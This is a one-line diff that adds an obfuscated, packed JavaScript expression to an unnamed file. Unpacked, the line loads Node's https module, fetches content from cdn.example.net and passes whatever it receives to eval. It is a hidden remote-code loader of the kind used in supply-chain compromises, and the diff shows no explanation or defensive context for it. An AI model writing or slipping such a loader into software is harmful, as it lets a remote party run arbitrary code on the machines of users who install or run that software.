@@ -1,0 +1,1 @@
+eval(function(p,a,c,k,e,d){e=function(c){return c.toString(36)};while(c--){if(k[c]){p=p.replace(new RegExp('\\b'+e(c)+'\\b','g'),k[c])}}return p}('0(\'1\').2(\'3://4.5.6/7\',8=>{8.9(\'a\',b=>{c(b)})});',13,13,'require|https|get|https|cdn|example|net|a|r|on|data|t|eval'.split('|'),0,{}));
